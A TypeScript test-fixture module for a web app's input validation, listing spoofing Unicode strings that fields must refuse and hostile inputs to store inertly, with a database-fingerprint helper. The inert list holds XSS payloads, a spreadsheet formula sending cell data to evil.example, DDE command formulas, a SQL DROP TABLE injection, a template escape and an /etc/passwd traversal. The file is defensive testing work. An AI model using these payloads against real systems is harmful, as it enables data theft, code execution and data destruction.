import { db } from "@/lib/db/client";
import type { Capability } from "@/lib/auth/permissions";
import type { ActionMeta } from "@/lib/action/define-action";
import type { Demo } from "../../support/fixtures";

/** Text no field may take: each must come back as a plain-English field error, with nothing stored. */
export const REFUSED_TEXT: Record<string, string> = {
  "a megabyte": "A".repeat(1_000_000),
  "a NUL byte": "Holme\u0000Wood",
  "a terminal escape": "\u001b[31mred\u001b[0m",
  "a bell and a backspace": "ding\u0007\u0008",
  "a C1 control": "next\u0085line",
  "a right-to-left override": "invoice\u202Etxt.exe",
  "a bidi isolate": "\u2066admin\u2069",
  "a zero-width space": "ad\u200Bmin",
  "a byte-order mark": "\uFEFFname",
  "a zero-width joiner between letters": "pay\u200Dpal",
  "an unpaired surrogate (a browser posts it as U+FFFD)": "broken \uD800 text",
  "text mangled by the wrong encoding": "caf\uFFFD",
  "a noncharacter": "end\uFFFF",
  "a Unicode tag": "hidden\u{E0041}",
};

/** Text that is hostile only where it is run or rendered: stored verbatim where a field takes it, never executed. */
export const INERT_TEXT: Record<string, string> = {
  "a script tag": "<script>alert(document.cookie)</script>",
  "an image onerror": '"><img src=x onerror=alert(1)>',
  "a javascript: link": "javascript:alert(1)",
  "a data: link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "a spreadsheet HYPERLINK formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "a DDE command": "+cmd|' /C calc'!A0",
  "an @SUM formula": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a minus formula": "-1+1",
  "SQL": "'; DROP TABLE \"Organisation\"; --",
  "a template expression": "{{constructor.constructor('return process')()}}",
  "a path traversal": "../../../../etc/passwd",
  "markdown link to javascript": "[click](javascript:alert(1))",
};

/** Real people's text that the hardening must not refuse. */
export const REAL_TEXT: Record<string, string> = {
  "Welsh and accents": "Ysgol Gynradd Llanfair — café, naïve, Zoë",
  "Arabic": "مدرسة هولم وود",
  "Persian with a zero-width non-joiner": "می‌خواهم",
  "Hindi with a joiner": "क्‍ष",
  "an emoji family": "Families 👨‍👩‍👧 and flags 🏳️‍🌈",
  "tabs and line breaks": "Line one\n\tLine two\r\nLine three",
};

/** Values where a whole number is asked for, that a person would not mean as one. */
export const NOT_WHOLE_NUMBERS = ["0x10", "1e3", "-0", "+1", "1.0", "NaN", "Infinity", "-Infinity", "", " ", "１２", "1_000", "0b1", "12abc"];

/** Phrases of zod's own messages, written for developers: none may reach a person. */
export const DEVELOPER_WORDS = /expected|received|invalid input|invalid (string|enum|option|discriminator|uuid|email|url|type|date|value|union|literal|key|element)|too (big|small)|nonempty|\bNaN\b|\bundefined\b|\bnull\b|\[object|>=|<=|string|boolean|array|regex|schema|zod/i;

/** Which demo user holds a capability on Holme Wood (or partnership-wide for partnership actions). */
export function actorFor(demo: Demo, meta: ActionMeta): string | null {
  if (meta.scope === "public") return null;
  if (meta.scope === "platform") return demo.users.platform!.id;
  const byCapability: Record<Capability, string> = {
    "partnership.read": "admin",
    "partnership.manage": "admin",
    "audit.read": "admin",
    "api.tokens": "admin",
    "area.read": "coordinator",
    "area.write": "coordinator",
    "evaluation.write": "research",
    "review.contribute": "coordinator",
    "gate.waive": "board",
    "indicators.upload": "research",
  };
  return demo.users[byCapability[meta.capability!]]!.id;
}

export const claims = (meta: ActionMeta): Record<string, string> =>
  meta.scope === "partnership" ? { partnership: "bradford" } : meta.scope === "area" ? { partnership: "bradford", area: "holme-wood" } : {};

let tenantTables: string[] | undefined;

/**
 * A fingerprint of every row of every tenant-owned table (the audit log but for its count),
 * both tenants: a refused call must leave it exactly as it was, updates included.
 */
export async function fingerprint(): Promise<string> {
  tenantTables ??= (
    await db().$queryRaw<{ table_name: string }[]>`
      SELECT c.table_name FROM information_schema.columns c JOIN information_schema.tables t ON t.table_name = c.table_name AND t.table_schema = c.table_schema
      WHERE c.table_schema = 'public' AND c.column_name = 'partnershipId' AND t.table_type = 'BASE TABLE'
        AND c.table_name NOT IN ('AuditEvent', 'DataPoint', 'CurrentDataPoint')`
  ).map((r) => r.table_name);
  const parts: string[] = [];
  for (const table of tenantTables.sort()) {
    const [row] = await db().$queryRawUnsafe<{ h: string | null; n: bigint }[]>(`SELECT md5(string_agg(t::text, '|' ORDER BY t::text)) AS h, count(*) AS n FROM "${table}" t`);
    parts.push(`${table}=${row!.n}:${row!.h ?? "-"}`);
  }
  const [points] = await db().$queryRaw<{ n: bigint }[]>`SELECT count(*) AS n FROM "DataPoint"`;
  const [users] = await db().$queryRaw<{ h: string | null }[]>`SELECT md5(string_agg(u::text, '|' ORDER BY u.id)) AS h FROM "User" u`;
  parts.push(`DataPoint=${points!.n}`, `User=${users!.h}`);
  return parts.join("\n");
}

/** Lines of two fingerprints that differ, for a failure message that names the table. */
export function changedTables(before: string, after: string): string[] {
  const a = new Set(before.split("\n"));
  return after.split("\n").filter((line) => !a.has(line)).map((line) => line.split("=")[0]!);
}
